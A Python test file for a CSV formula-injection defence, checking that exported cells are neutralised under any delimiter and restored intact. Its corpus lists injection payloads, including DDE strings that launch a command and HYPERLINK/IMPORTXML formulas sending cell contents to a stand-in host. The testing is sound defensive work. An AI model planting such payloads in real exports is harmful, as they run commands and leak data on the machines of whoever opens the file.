"""No cell of ours is a formula to any program, and each comes back as it was."""

import csv
import io
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from publisher.audience.formulas import defuse, restore

CORPUS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1-2",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com/?"&A1,"Click")',
    '=IMPORTXML(CONCAT("https://example.com/?v=",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＠SUM(1)",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    'a",=1+1,"b',
    'a"=1+1',
    "'=1+1",
    "''=1+1",
    "; \t=1+1",
    "x\n=1+1",
    "=cmd@example.org",
)
SAFE = (
    "Ana Lund",
    "'t Hooft",
    "O'Brien",
    "reader@example.org",
    "2026-03-02T06:30:00+00:00",
    "a-b",
    "1+1",
    "",
)


def cells(text: str, delimiter: str) -> list[str]:
    """The cells as a program sees them that splits at `delimiter`, with and without knowing of quotes."""
    plain = re.split(rf"[{delimiter}\n\r\"]", text)
    return [
        *plain,
        *(cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row),
    ]


@pytest.mark.parametrize("cell", CORPUS)
def test_whatever_splits_the_file_no_cell_is_a_formula(cell: str) -> None:
    stream = io.StringIO()
    csv.writer(stream).writerow([defuse("reader@example.org"), defuse(cell), defuse("Ana")])
    for delimiter in (",", ";", "\t", "|"):
        for seen in cells(stream.getvalue(), delimiter):
            assert not re.match(r"[ \u00a0]*[=+\-@＝＋－＠]", seen), (delimiter, seen)
    assert restore(defuse(cell)) == cell


@pytest.mark.parametrize("cell", SAFE)
def test_what_is_no_formula_stays(cell: str) -> None:
    assert defuse(cell) == cell == restore(cell)


def test_what_others_defused_is_taken_back() -> None:
    assert restore("'=1+1") == "=1+1"
    assert restore("'t Hooft") == "'t Hooft"


@given(st.text(alphabet="=+-@'\" ;,|\t\r\na1\u00a0＝", max_size=12) | st.text(max_size=12))
@example("=,'=")
@settings(max_examples=500)
def test_every_cell_comes_back(cell: str) -> None:
    assert restore(defuse(cell)) == cell
